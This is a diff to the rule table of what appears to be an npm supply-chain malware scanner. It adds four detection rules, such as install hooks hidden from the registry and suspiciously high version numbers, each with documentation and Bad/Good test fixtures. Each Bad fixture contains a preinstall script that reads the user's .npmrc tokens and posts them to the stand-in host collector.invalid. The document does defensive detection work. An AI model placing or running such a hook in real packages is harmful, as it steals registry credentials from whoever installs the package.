@@ -47,9 +47,11 @@ pub mod disguise {
     pub mod brand_claimed_by_stranger;
     pub mod bundled_dependency_unlisted;
     pub mod dependency_confusion_shape;
+    pub mod dependency_differs_from_registry;
     pub mod dependency_from_throw_away_host;
     pub mod dependency_from_url_or_git;
     pub mod dependency_nothing_uses;
+    pub mod install_hook_hidden_from_registry;
     pub mod look_alike_name;
     pub mod manifest_keys_twice;
     pub mod manifest_name_differs;
@@ -59,6 +61,7 @@ pub mod disguise {
     pub mod readme_of_another_package;
     pub mod repository_of_imitated_project;
     pub mod scope_look_alike;
+    pub mod version_far_beyond_line;
 }
 
 /// Rules of the tactic evasion.
@@ -95,6 +98,7 @@ pub mod execution {
     pub mod git_hook_runs_download;
     pub mod hidden_script_host_started;
     pub mod inline_program_in_hook;
+    pub mod install_hook_never_before;
     pub mod install_hook_runs_code;
     pub mod optional_git_dependency;
     pub mod prepare_fails_on_purpose;
@@ -272,9 +276,11 @@ pub static RULES: &[&dyn Rule] = &[
     &disguise::brand_claimed_by_stranger::BrandClaimedByStranger,
     &disguise::bundled_dependency_unlisted::BundledDependencyUnlisted,
     &disguise::dependency_confusion_shape::DependencyConfusionShape,
+    &disguise::dependency_differs_from_registry::DependencyDiffersFromRegistry,
     &disguise::dependency_from_throw_away_host::DependencyFromThrowAwayHost,
     &disguise::dependency_from_url_or_git::DependencyFromUrlOrGit,
     &disguise::dependency_nothing_uses::DependencyNothingUses,
+    &disguise::install_hook_hidden_from_registry::InstallHookHiddenFromRegistry,
     &disguise::look_alike_name::LookAlikeName,
     &disguise::manifest_keys_twice::ManifestKeysTwice,
     &disguise::manifest_name_differs::ManifestNameDiffers,
@@ -284,6 +290,7 @@ pub static RULES: &[&dyn Rule] = &[
     &disguise::readme_of_another_package::ReadmeOfAnotherPackage,
     &disguise::repository_of_imitated_project::RepositoryOfImitatedProject,
     &disguise::scope_look_alike::ScopeLookAlike,
+    &disguise::version_far_beyond_line::VersionFarBeyondLine,
     &evasion::archive_hides_files::ArchiveHidesFiles,
     &evasion::build_mode_decides_harm::BuildModeDecidesHarm,
     &evasion::build_service_avoided::BuildServiceAvoided,
@@ -310,6 +317,7 @@ pub static RULES: &[&dyn Rule] = &[
     &execution::git_hook_runs_download::GitHookRunsDownload,
     &execution::hidden_script_host_started::HiddenScriptHostStarted,
     &execution::inline_program_in_hook::InlineProgramInHook,
+    &execution::install_hook_never_before::InstallHookNeverBefore,
     &execution::install_hook_runs_code::InstallHookRunsCode,
     &execution::optional_git_dependency::OptionalGitDependency,
     &execution::prepare_fails_on_purpose::PrepareFailsOnPurpose,
@@ -2273,6 +2281,55 @@ module.exports = {};
 "#,
     ),
     (
+        "dependency-differs-from-registry",
+        r#"# The registry lists other dependencies than the archive
+
+The archive's manifest needs a package that the registry's manifest does not list, or the other way round.
+
+## Why it matters
+
+Package managers install what the registry lists; who reads the archive sees other names. A dependency in one of the two alone
+is one that nobody was meant to see.
+
+## Known benign uses
+
+Tools that bundle dependencies and change the manifest while they pack it. Ranges that name a workspace, and optional or
+bundled dependencies that publishing clients list twice, are no difference. It never decides alone.
+
+## Bad
+
+```package with packument
+== package.json //~ 1
+{"name": "left-pad-two", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "left-pad-two", "versions": {"1.3.0": {"_id": "a", "name": "left-pad-two", "version": "1.3.0",
+  "scripts": {"preinstall": "node setup.js"}, "dependencies": {"plain-helper-lite": "^4.2.1"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## Good
+
+```package with packument
+== package.json
+{"name": "watcher", "version": "1.3.0", "main": "index.js", "optionalDependencies": {"fsevents": "^2.0.0"}}
+== index.js
+module.exports = () => require("fsevents");
+== packument.json
+{"name": "watcher", "versions": {"1.3.0": {"_id": "a", "name": "watcher", "version": "1.3.0", "main": "index.js",
+  "dependencies": {"fsevents": "^2.0.0"}, "optionalDependencies": {"fsevents": "^2.0.0"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## References
+
+- Clarke: The massive bug at the heart of the npm ecosystem (June 2023)
+"#,
+    ),
+    (
         "dependency-from-throw-away-host",
         r#"# A dependency is an archive on a host that pins nothing
 
@@ -2402,6 +2459,54 @@ exports.get = require("follow-redirects").https.get;
 
 - Elastic: Axios and plain-crypto-js (March 2026)
 - the corpora of `eval/`, measured
+"#,
+    ),
+    (
+        "install-hook-hidden-from-registry",
+        r#"# The registry does not show a hook that the archive has
+
+The archive's manifest has an install hook, or another command in it, than the manifest that the registry shows.
+
+## Why it matters
+
+The registry takes the manifest that the publisher sends and never compares it with the one in the archive. Reviewers, web
+pages and tools read the first; the package manager runs the hooks of the second.
+
+## Known benign uses
+
+Tools that change the manifest while they pack it. What the publishing clients do themselves (a `node-gyp rebuild` for a
+`binding.gyp`, paths shortened) is no difference. It never decides alone.
+
+## Bad
+
+```package with packument
+== package.json //~ 1
+{"name": "left-pad-two", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "left-pad-two", "versions": {"1.3.0": {"_id": "a", "name": "left-pad-two", "version": "1.3.0", "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## Good
+
+```package with packument
+== package.json
+{"name": "addon", "version": "1.3.0", "scripts": {"postinstall": "./node_modules/.bin/patch  x"}}
+== binding.gyp
+{"targets": [{"target_name": "a", "sources": ["a.c"]}]}
+== packument.json
+{"name": "addon", "versions": {"1.3.0": {"_id": "a", "name": "addon", "version": "1.3.0", "gypfile": true,
+  "scripts": {"install": "node-gyp rebuild", "postinstall": "patch x"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## References
+
+- Clarke: The massive bug at the heart of the npm ecosystem (June 2023)
 "#,
     ),
     (
@@ -2857,6 +2962,55 @@ exports.parse = (text) => JSON.parse(text);
 ## References
 
 - Sonatype, Socket: the packages `@typescript_eslinter/eslint` and `types-node` (December 2024)
+"#,
+    ),
+    (
+        "version-far-beyond-line",
+        r#"# The version lies far beyond every earlier one
+
+The version's first number is fifty or more above the highest that was published before.
+
+## Why it matters
+
+A package manager takes the highest version. Who takes over a name, or squats on a private one after a harmless first release,
+publishes a number that nothing outranks.
+
+## Known benign uses
+
+Mistakes, and a change of scheme: 3 of 284,168 releases of 4,075 packages, measured in November 2026, all honest. It never
+decides alone.
+
+## Bad
+
+```package with packument
+== package.json //~ 1
+{"name": "acme-billing-core", "version": "99.0.1", "scripts": {"preinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "acme-billing-core", "versions": {"0.0.1": {}, "99.0.1": {"_id": "a", "name": "acme-billing-core", "version": "99.0.1",
+  "scripts": {"preinstall": "node setup.js"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## Good
+
+```package with packument
+== package.json
+{"name": "browserdriver", "version": "127.0.1", "main": "index.js"}
+== index.js
+module.exports = 127;
+== packument.json
+{"name": "browserdriver", "versions": {"2.0.0": {}, "122.0.3": {}, "127.0.1": {"_id": "a", "name": "browserdriver",
+  "version": "127.0.1", "main": "index.js", "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## References
+
+- Birsan: Dependency Confusion (February 2021)
 "#,
     ),
     (
@@ -4203,6 +4357,54 @@ console.log("Thank you for using x!");
 ## References
 
 - MITRE ATT&CK T1059, Command and Scripting Interpreter
+"#,
+    ),
+    (
+        "install-hook-never-before",
+        r#"# An install hook where no earlier release had one
+
+The release has an install hook; at least three releases came before it, and none of them had one.
+
+## Why it matters
+
+Most hijacked packages had no hook until the poisoned release.
+
+## Known benign uses
+
+A package that starts to build native code or to fetch a binary: 70 of 284,168 releases of 4,075 packages, measured in
+November 2026. It never decides alone.
+
+## Bad
+
+```package with packument
+== package.json //~ 1
+{"name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
+== setup.js
+const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
+const request = https.request({ hostname: "collector.invalid", method: "POST" });
+request.write(text);
+request.end();
+== packument.json
+{"name": "text-rows", "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {}, "1.3.0": {"_id": "a", "name": "text-rows",
+  "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## Good
+
+```package with packument
+== package.json
+{"name": "addon", "version": "1.3.0", "main": "index.js", "scripts": {"install": "node-gyp-build"}}
+== index.js
+module.exports = require("node-gyp-build")(__dirname);
+== packument.json
+{"name": "addon", "versions": {"1.0.0": {"scripts": {"install": "node-gyp rebuild"}}, "1.1.0": {}, "1.2.0": {},
+  "1.3.0": {"_id": "a", "name": "addon", "version": "1.3.0", "main": "index.js", "scripts": {"install": "node-gyp-build"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
+```
+
+## References
+
+- CISA: Widespread supply chain compromise in the npm ecosystem (September 2025)
 "#,
     ),
     (
